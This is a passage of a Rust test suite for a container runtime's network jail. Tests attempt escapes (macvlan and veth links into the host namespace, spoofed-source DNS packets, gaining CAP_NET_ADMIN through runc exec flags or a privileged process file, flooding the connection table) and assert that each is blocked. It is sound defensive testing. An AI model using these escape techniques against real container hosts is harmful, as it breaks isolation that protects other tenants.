    assert!(out.status.success(), "ip -o link in {}: {}", ns.display(), String::from_utf8_lossy(&out.stderr));
    boundary_tests::probe::link_names(&String::from_utf8_lossy(&out.stdout))
}

/// CAP_NET_ADMIN in the jail reaches no other namespace. The kernel gives
/// the veth's host side an id in the jail when the jail lists its links,
/// and rtnetlink takes that id (`IFLA_LINK_NETNSID`, `IFLA_TARGET_NETNSID`)
/// and checks the capability against the owner of the namespace it names:
/// from a jail owned by the host's user namespace, a macvlan on the host
/// side's link (in Docker's and Kubernetes' shapes, its uplink) and a veth
/// pair into the host side (a second way out, outside `iifname` of the
/// nft table) are both made. The container runs in the user namespace
/// that owns its jail, so both are refused there, and neither link exists
/// afterwards. The control: the same probe, from a namespace pair of the
/// host's user namespace, makes both (so the probe itself works).
#[test]
fn net_admin_in_the_jail_reaches_no_other_namespace() {
    let w = World::start(234, "esc-peerlink");
    let jail = w.rt.jail(w.id);
    let status = w.exec("cat /proc/self/status").ok();
    assert!(boundary_tests::probe::cap_eff(&status.stdout) & (1 << boundary_tests::probe::CAP_NET_ADMIN) != 0, "the container must hold CAP_NET_ADMIN:\n{status}");
    let map = w.exec("cat /proc/self/uid_map").ok();
    assert_eq!(map.stdout.split_whitespace().collect::<Vec<_>>(), ["0", "0", "4294967295"], "the container's user namespace maps every id to itself:\n{map}");
    let own = w.exec("ip link add bown0 type veth peer name bown1 && ip addr add 192.0.2.1/24 dev bown0 && echo own-ok").ok();
    assert!(own.stdout.contains("own-ok"), "CAP_NET_ADMIN still works in the jail itself:\n{own}");
    for args in ["peer-macvlan eth0", "peer-veth eth0 bnx"] {
        let line = w.probe(args);
        assert!(line.starts_with("error:") && line.contains("Operation not permitted"), "probe {args} from inside the jail: {line}");
    }
    let inside = links_in(&jail.netns_path);
    assert!(!inside.iter().any(|l| l == "bprobe0" || l == "bnx-p"), "a link into the host side appeared in the jail: {inside:?}");
    let host_ns = hostside::netns(&jail).expect("a runc bundle's jail has a private host side");
    let host = links_in(&host_ns);
    assert!(!host.iter().any(|l| l == "bnx"), "a link appeared in the host side: {host:?}");

    // Control: a jail-like pair in the host's user namespace.
    let probe = boundary_tests::binaries().runtime.parent().expect("target dir").join("probe");
    let (hn, jn) = ("bnd-e2e-ctl-h", "bnd-e2e-ctl-j");
    let ip = |args: &str| Command::new(require_tool("ip")).args(args.split_whitespace()).output().expect("run ip").status.success();
    ip(&format!("netns del {hn}"));
    ip(&format!("netns del {jn}"));
    assert!(ip(&format!("netns add {hn}")) && ip(&format!("netns add {jn}")), "cannot make the control namespaces");
    assert!(ip(&format!("-n {hn} link add ch type veth peer name cj netns {jn}")), "cannot make the control veth");
    let run = |args: &[&str]| {
        let out = Command::new(require_tool("ip")).args(["netns", "exec", jn]).arg(&probe).args(args).output().expect("run probe");
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    let (mac, veth) = (run(&["peer-macvlan", "cj"]), run(&["peer-veth", "cj", "bnx"]));
    let (ctl_jail, ctl_host) = (links_in(&std::path::PathBuf::from(format!("/run/netns/{jn}"))), links_in(&std::path::PathBuf::from(format!("/run/netns/{hn}"))));
    ip(&format!("netns del {hn}"));
    ip(&format!("netns del {jn}"));
    assert!(mac.starts_with("created") && veth.starts_with("created"), "the control probes failed: {mac}; {veth}");
    assert!(ctl_jail.iter().any(|l| l == "bprobe0") && ctl_host.iter().any(|l| l == "bnx"), "control: {ctl_jail:?} {ctl_host:?}");
}

/// A packet from the jail must carry the jail's own address: one with a
/// spoofed source is dropped before anything on the host side answers it
/// (in an engine's namespace, which has routes out, the DNS filter's
/// answer, the proxy's SYN-ACK or an ICMP error would go to that address:
/// a channel out that no rule judges). DNS queries built by hand, from the
/// jail's address (the control: answered and audited) and from another
/// (nothing audited).
#[test]
fn packets_with_a_spoofed_source_reach_nothing_on_the_host_side() {
    let w = World::start(235, "esc-spoof");
    let (jail, host) = (w.jail_addr(), w.sidecar());
    let spoofed = Ipv4Addr::new(198, 51, 100, 7);
    assert!(w.probe(&format!("raw-dns {jail} {host} origin.test")).starts_with("sent"));
    assert!(w.probe(&format!("raw-dns {spoofed} {host} denied.test")).starts_with("sent"));
    assert!(w.probe(&format!("raw-dns {spoofed} 192.0.2.53 denied.test")).starts_with("sent"));
    let dns = || w.rt.audit_records(w.id).into_iter().filter(|r| r.kind == "dns").collect::<Vec<_>>();
    poll_until(Duration::from_secs(5), "the control query to be audited", || dns().iter().any(|r| r.host.as_deref() == Some("origin.test")).then_some(()));
    std::thread::sleep(Duration::from_millis(300));
    let records = dns();
    assert!(!records.iter().any(|r| r.host.as_deref() == Some("denied.test")), "a query from a spoofed source reached the DNS filter: {records:#?}");
}

/// A container that cannot have a user namespace of its own (here: it
/// shares the host's pid namespace) gets no CAP_NET_ADMIN, since in the
/// host's user namespace it would reach the jail's host side. Neither
/// does a process `exec` starts in it: not by `--cap` (`runc exec --cap`,
/// `ctr task exec`), nor by a process file that asks for every capability
/// (what `docker exec --privileged` sends), which keeps the rest. The
/// control: the delegate runc, asked directly, does grant it.
#[test]
fn exec_into_a_jail_of_the_hosts_user_namespace_gets_no_net_admin() {
    use boundary_tests::probe::{cap_eff, CAP_NET_ADMIN, CAP_SYS_ADMIN};
    let w = World::start_with(
        236,
        "esc-execcap",
        |s| s.allow_host_pid_namespace(true),
        without_pid_namespace,
    );
    let has = |status: &str, cap: u32| cap_eff(status) & (1 << cap) != 0;
    let status = w.exec("cat /proc/self/status").ok();
    assert!(!has(&status.stdout, CAP_NET_ADMIN), "the container itself must lack CAP_NET_ADMIN:\n{status}");

    // The command-line form, with the flag spelled as runtimes accept it.
    for flag in [["--cap", "CAP_NET_ADMIN"], ["-c", "CAP_NET_ADMIN"]] {
        let out = w.rt.cmd(&["exec", flag[0], flag[1], w.id, "cat", "/proc/self/status"]).ok();
        assert!(!has(&out.stdout, CAP_NET_ADMIN), "exec {flag:?} gave CAP_NET_ADMIN:\n{out}");
        let warned = out.log.iter().any(|e| e["level"] == "warning" && e["msg"].as_str().is_some_and(|m| m.contains("no CAP_NET_ADMIN")));
        assert!(warned, "the runtime log must say what was taken:\n{out}");
    }
    // Spellings boundary-runc cannot read (crun's unique prefix), or that
    // runc and crun read differently (an attached short value, `-c=`),
    // are refused for such a container.
    for flag in ["--ca", "-cCAP_NET_ADMIN", "-c=CAP_NET_ADMIN"] {
        let mut args = vec!["exec", flag];
        if flag == "--ca" {
            args.push("CAP_NET_ADMIN");
        }
        args.extend([w.id, "cat", "/proc/self/status"]);
        let out = w.rt.cmd(&args).failed();
        let refused = |e: &String| (e.contains("unknown flag") || e.contains("read this spelling differently")) && e.contains("given no CAP_NET_ADMIN");
        assert!(out.log_errors().iter().any(refused), "{out}");
    }
    let out = w.rt.cmd(&["exec", "--cap", "CAP_NET_ADMIN", w.id, "sh", "-c", &format!("{PROBE} peer-macvlan eth0")]);
    assert!(out.stdout.trim().starts_with("error:") && out.stdout.contains("Operation not permitted"), "{out}");

    // The process-file form, as `docker exec --privileged` sends it.
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("process.json");
    let config: serde_json::Value = serde_json::from_slice(&std::fs::read(w.bundle.config_path()).expect("read config.json")).expect("config.json");
    let mut process = config["process"].clone();
    // Docker's privileged exec: every capability (here: every one this
    // test holds, as runc can grant no more) in the bounding, effective and
    // permitted sets, and no ambient ones.
    let held = std::fs::read_to_string("/proc/self/status").expect("read /proc/self/status");
    let bounding = held.lines().find_map(|l| l.strip_prefix("CapBnd:")).map(|h| u64::from_str_radix(h.trim(), 16).expect("CapBnd")).expect("CapBnd");
    let all: Vec<&str> = (0..64).filter(|n| bounding & (1 << n) != 0).filter_map(cap_name).collect();
    assert!(all.contains(&"CAP_NET_ADMIN") && all.contains(&"CAP_SYS_ADMIN"), "the test itself lacks capabilities: {all:?}");
    for set in ["bounding", "effective", "permitted"] {
        process["capabilities"][set] = serde_json::json!(all);
    }
    process["capabilities"]["ambient"] = serde_json::json!([]);
    process["args"] = serde_json::json!(["cat", "/proc/self/status"]);
    process["terminal"] = serde_json::json!(false);
    std::fs::write(&file, process.to_string()).expect("write process.json");
    let out = w.rt.cmd(&["exec", "--process", file.to_str().expect("utf-8"), w.id]).ok();
    assert!(!has(&out.stdout, CAP_NET_ADMIN), "a privileged process file gave CAP_NET_ADMIN:\n{out}");
    assert!(has(&out.stdout, CAP_SYS_ADMIN), "only CAP_NET_ADMIN is taken from the process file:\n{out}");

    // Control: runc itself, bypassing boundary-runc, grants the flag.
    let runc = Command::new(require_tool("runc"))
        .args(["--root", w.rt.runc_root.to_str().expect("utf-8"), "exec", "--cap", "CAP_NET_ADMIN", w.id, "cat", "/proc/self/status"])
        .output()
        .expect("run runc");
    let text = String::from_utf8_lossy(&runc.stdout);
    assert!(runc.status.success() && has(&text, CAP_NET_ADMIN), "control: runc exec --cap did not grant CAP_NET_ADMIN:\n{text}{}", String::from_utf8_lossy(&runc.stderr));
}

/// The bundle with the host's pid namespace (no `pid` entry).
fn without_pid_namespace(b: boundary_tests::Bundle) -> boundary_tests::Bundle {
    b.edit(|s| {
        let ns = s["linux"]["namespaces"].as_array_mut().expect("namespaces");
        ns.retain(|n| n["type"] != "pid");
    })
}

/// The kernel's name of capability `n` (as runc reads them), for the ones
/// this machine's kernel has.
fn cap_name(n: u32) -> Option<&'static str> {
    const NAMES: [&str; 41] = [
        "CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH", "CAP_FOWNER", "CAP_FSETID", "CAP_KILL", "CAP_SETGID", "CAP_SETUID",
        "CAP_SETPCAP", "CAP_LINUX_IMMUTABLE", "CAP_NET_BIND_SERVICE", "CAP_NET_BROADCAST", "CAP_NET_ADMIN", "CAP_NET_RAW", "CAP_IPC_LOCK",
        "CAP_IPC_OWNER", "CAP_SYS_MODULE", "CAP_SYS_RAWIO", "CAP_SYS_CHROOT", "CAP_SYS_PTRACE", "CAP_SYS_PACCT", "CAP_SYS_ADMIN",
        "CAP_SYS_BOOT", "CAP_SYS_NICE", "CAP_SYS_RESOURCE", "CAP_SYS_TIME", "CAP_SYS_TTY_CONFIG", "CAP_MKNOD", "CAP_LEASE",
        "CAP_AUDIT_WRITE", "CAP_AUDIT_CONTROL", "CAP_SETFCAP", "CAP_MAC_OVERRIDE", "CAP_MAC_ADMIN", "CAP_SYSLOG", "CAP_WAKE_ALARM",
        "CAP_BLOCK_SUSPEND", "CAP_AUDIT_READ", "CAP_PERFMON", "CAP_BPF", "CAP_CHECKPOINT_RESTORE",
    ];
    NAMES.get(n as usize).copied()
}

/// A jail may have only so many flows tracked on its host side at once
/// (`network.max_flows`): past that, new connections are dropped, so a
/// container cannot fill the host side's connection table (and with it
/// evict the sidecar's own flows, or, on the host's network, everyone's).
/// Closed connections stop counting.
#[test]
fn a_jail_cannot_hold_more_flows_than_its_cap() {
    let w = World::start_with(237, "esc-flows", |s| s.max_flows(6), |b| b);
    let request = "GET /allowed/held HTTP/1.1\\r\\nHost: origin.test\\r\\n\\r\\n";
    let line = w.probe(&format!("hold {} 80 9 '{request}'", w.origin.addr()));
    assert_eq!(line, "held 6 of 9; after closing: made", "the first 6 connections are made, the rest dropped; once they close, new ones are made");
    let reached = w.origin.requests();
    assert_eq!(reached.len(), 7, "6 held and 1 after closing reached the origin: {reached:?}");
    assert!(reached.iter().all(|r| r == "http GET /allowed/held host=origin.test"), "{reached:?}");
}
